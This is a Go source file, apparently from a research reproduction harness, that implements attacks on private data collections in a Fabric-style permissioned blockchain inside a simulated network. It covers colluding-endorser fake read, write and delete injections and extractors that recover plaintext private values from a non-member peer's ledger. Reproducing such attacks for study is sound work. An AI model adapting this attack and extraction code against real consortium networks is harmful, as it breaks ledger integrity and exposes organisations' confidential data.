@@ -1,0 +1,255 @@
+package attacks
+
+import (
+	"fmt"
+	"strconv"
+
+	"repro/internal/ledger"
+)
+
+// Outcome reports whether an attack achieved its goal, with the evidence.
+type Outcome struct {
+	// Succeeded is true when the attack's integrity/confidentiality
+	// goal was reached.
+	Succeeded bool
+	// TxID of the malicious transaction, when one was assembled.
+	TxID string
+	// Code is the validation outcome of the malicious transaction.
+	Code ledger.ValidationCode
+	// Detail explains the evidence for success or failure.
+	Detail string
+}
+
+// FakeReadInjection runs the §V-A1 experiment: the malicious client of
+// org1 sends a PDC read-only proposal to the colluding endorsers (who run
+// the forging chaincode), assembles the transaction and submits it. The
+// attack succeeds when the transaction is recorded VALID in the
+// blockchain while carrying the fabricated payload — breaching blockchain
+// integrity.
+func FakeReadInjection(e *Env) Outcome {
+	cl := e.Net.Client(e.Scenario.Malicious[0])
+	res, err := cl.SubmitTransaction(
+		e.maliciousPeers(),
+		ChaincodeName, "readPrivate", []string{TargetKey}, nil,
+	)
+	if err != nil {
+		return Outcome{Detail: fmt.Sprintf("endorsement/ordering failed: %v", err)}
+	}
+	if res.Code != ledger.Valid {
+		return Outcome{TxID: res.TxID, Code: res.Code,
+			Detail: fmt.Sprintf("transaction invalidated: %v", res.Code)}
+	}
+
+	// Evidence: the victim's own blockchain stores the fabricated value
+	// as a valid read result.
+	tx, code, err := e.Net.Peer("org2").Ledger().Transaction(res.TxID)
+	if err != nil || code != ledger.Valid {
+		return Outcome{TxID: res.TxID, Code: code, Detail: "tx missing or invalid at victim"}
+	}
+	prp, err := tx.ResponsePayloadParsed()
+	if err != nil {
+		return Outcome{TxID: res.TxID, Code: code, Detail: "unparsable payload"}
+	}
+	if string(prp.Response.Payload) != FakeValue {
+		return Outcome{TxID: res.TxID, Code: code,
+			Detail: fmt.Sprintf("payload %q is not the fake value", prp.Response.Payload)}
+	}
+	return Outcome{
+		Succeeded: true, TxID: res.TxID, Code: code,
+		Detail: fmt.Sprintf("valid read tx records fake value %q (true value %q)", FakeValue, InitialValue),
+	}
+}
+
+// FakeWriteInjection runs the §V-A2 experiment: the malicious client
+// writes k1 = 5 with endorsements from the colluders only. org1's rule
+// ("< 15") tolerates 5; org2's rule ("> 10") would reject it but org2 is
+// never asked. The attack succeeds when the victim org2's private store
+// ends up holding 5 — breaching world-state integrity.
+func FakeWriteInjection(e *Env) Outcome {
+	return fakeWrite(e, "setPrivate", []string{TargetKey, strconv.Itoa(FakeSum)}, strconv.Itoa(FakeSum))
+}
+
+// FakeReadWriteInjection runs the §V-A3 experiment: the colluders forge
+// the read half of an add operation so the written sum becomes FakeSum,
+// then inject it like a write.
+func FakeReadWriteInjection(e *Env) Outcome {
+	return fakeWrite(e, "addPrivate", []string{TargetKey, "1"}, strconv.Itoa(FakeSum))
+}
+
+func fakeWrite(e *Env, function string, args []string, wantValue string) Outcome {
+	cl := e.Net.Client(e.Scenario.Malicious[0])
+	res, err := cl.SubmitTransaction(e.maliciousPeers(), ChaincodeName, function, args, nil)
+	if err != nil {
+		return Outcome{Detail: fmt.Sprintf("endorsement/ordering failed: %v", err)}
+	}
+	if res.Code != ledger.Valid {
+		return Outcome{TxID: res.TxID, Code: res.Code,
+			Detail: fmt.Sprintf("transaction invalidated: %v", res.Code)}
+	}
+	got, ok := e.VictimValue()
+	if !ok || got != wantValue {
+		return Outcome{TxID: res.TxID, Code: res.Code,
+			Detail: fmt.Sprintf("victim value %q (present=%v), want %q", got, ok, wantValue)}
+	}
+	return Outcome{
+		Succeeded: true, TxID: res.TxID, Code: res.Code,
+		Detail: fmt.Sprintf("victim org2 committed %s=%q, violating its \"> 10\" rule", TargetKey, got),
+	}
+}
+
+// PDCDeleteAttack runs the §V-A4 experiment: the malicious client deletes
+// k1 with colluding endorsements; org2's constraint would forbid it. The
+// attack succeeds when the victim's private entry disappears.
+func PDCDeleteAttack(e *Env) Outcome {
+	cl := e.Net.Client(e.Scenario.Malicious[0])
+	res, err := cl.SubmitTransaction(
+		e.maliciousPeers(),
+		ChaincodeName, "delPrivate", []string{TargetKey, strconv.Itoa(FakeSum)}, nil,
+	)
+	if err != nil {
+		return Outcome{Detail: fmt.Sprintf("endorsement/ordering failed: %v", err)}
+	}
+	if res.Code != ledger.Valid {
+		return Outcome{TxID: res.TxID, Code: res.Code,
+			Detail: fmt.Sprintf("transaction invalidated: %v", res.Code)}
+	}
+	if got, ok := e.VictimValue(); ok {
+		return Outcome{TxID: res.TxID, Code: res.Code,
+			Detail: fmt.Sprintf("victim still holds %s=%q", TargetKey, got)}
+	}
+	return Outcome{
+		Succeeded: true, TxID: res.TxID, Code: res.Code,
+		Detail: fmt.Sprintf("%s deleted at victim org2 against its business rule", TargetKey),
+	}
+}
+
+// Leaked is one private value recovered from a peer's local blockchain.
+type Leaked struct {
+	TxID     string
+	BlockNum uint64
+	// Payload is the plaintext recovered from the transaction's
+	// proposal-response "payload" field.
+	Payload string
+	// Function is the chaincode function that produced it.
+	Function string
+}
+
+// ExtractPDCPayloads implements the §IV-B leakage extractor: it walks the
+// given peer's local blockchain — no network access, no special
+// privileges — and returns the plaintext payloads of every valid
+// transaction that touched a private data collection. Run on a PDC
+// non-member peer, any returned value that equals a private value is a
+// confidentiality breach.
+func ExtractPDCPayloads(p LedgerHolder) []Leaked {
+	var out []Leaked
+	p.Ledger().Scan(func(blockNum uint64, tx *ledger.Transaction, code ledger.ValidationCode) bool {
+		if code != ledger.Valid {
+			return true
+		}
+		prp, err := tx.ResponsePayloadParsed()
+		if err != nil || len(prp.Response.Payload) == 0 {
+			return true
+		}
+		set, err := prp.RWSet()
+		if err != nil || len(set.CollSets) == 0 {
+			return true
+		}
+		out = append(out, Leaked{
+			TxID:     tx.TxID,
+			BlockNum: blockNum,
+			Payload:  string(prp.Response.Payload),
+			Function: tx.Proposal.Function,
+		})
+		return true
+	})
+	return out
+}
+
+// LedgerHolder is anything exposing a blockchain copy (a peer).
+type LedgerHolder interface {
+	Ledger() *ledger.BlockStore
+}
+
+// LeakedEvent is one chaincode event recovered from a peer's blockchain.
+// Events are an exposure channel of the same class as Use Case 3: they
+// travel in plaintext inside transactions, so a chaincode that emits a
+// private value through an event leaks it to every peer.
+type LeakedEvent struct {
+	TxID     string
+	BlockNum uint64
+	Name     string
+	Payload  string
+}
+
+// ExtractPDCEvents walks a peer's local blockchain and returns the
+// chaincode events of every valid transaction that touched a private
+// data collection — the event-channel analogue of ExtractPDCPayloads.
+func ExtractPDCEvents(p LedgerHolder) []LeakedEvent {
+	var out []LeakedEvent
+	p.Ledger().Scan(func(blockNum uint64, tx *ledger.Transaction, code ledger.ValidationCode) bool {
+		if code != ledger.Valid {
+			return true
+		}
+		prp, err := tx.ResponsePayloadParsed()
+		if err != nil || prp.Event == nil {
+			return true
+		}
+		set, err := prp.RWSet()
+		if err != nil || len(set.CollSets) == 0 {
+			return true
+		}
+		out = append(out, LeakedEvent{
+			TxID:     tx.TxID,
+			BlockNum: blockNum,
+			Name:     prp.Event.Name,
+			Payload:  string(prp.Event.Payload),
+		})
+		return true
+	})
+	return out
+}
+
+// PDCReadLeakage runs the §V-B1 experiment: an honest client of a member
+// org submits an audited PDC read (the Listing 1 pattern); the non-member
+// org3 then recovers the private value from its own blockchain. Succeeds
+// when the recovered plaintext equals the private value.
+func PDCReadLeakage(e *Env) Outcome {
+	cl := e.Net.Client("org2")
+	res, err := cl.SubmitTransaction(
+		e.memberPeers(),
+		ChaincodeName, "readPrivate", []string{TargetKey}, nil,
+	)
+	if err != nil {
+		return Outcome{Detail: fmt.Sprintf("honest read failed: %v", err)}
+	}
+	return checkLeak(e, res.TxID, InitialValue)
+}
+
+// PDCWriteLeakage runs the §V-B2 experiment: the members use a sloppily
+// written chaincode whose setPrivate returns the written value (the
+// Listing 2 pattern, enabled in the scenario via LeakOnWrite), and the
+// non-member recovers the value from its blockchain.
+func PDCWriteLeakage(e *Env, newValue string) Outcome {
+	cl := e.Net.Client("org2")
+	res, err := cl.SubmitTransaction(
+		e.memberPeers(),
+		ChaincodeName, "setPrivate", []string{TargetKey, newValue}, nil,
+	)
+	if err != nil {
+		return Outcome{Detail: fmt.Sprintf("honest write failed: %v", err)}
+	}
+	return checkLeak(e, res.TxID, newValue)
+}
+
+func checkLeak(e *Env, txID, secret string) Outcome {
+	for _, leak := range ExtractPDCPayloads(e.Net.Peer("org3")) {
+		if leak.TxID == txID && leak.Payload == secret {
+			return Outcome{
+				Succeeded: true, TxID: txID, Code: ledger.Valid,
+				Detail: fmt.Sprintf("non-member org3 recovered %q from block %d", leak.Payload, leak.BlockNum),
+			}
+		}
+	}
+	return Outcome{TxID: txID, Code: ledger.Valid,
+		Detail: "no plaintext private value recoverable from non-member blockchain"}
+}
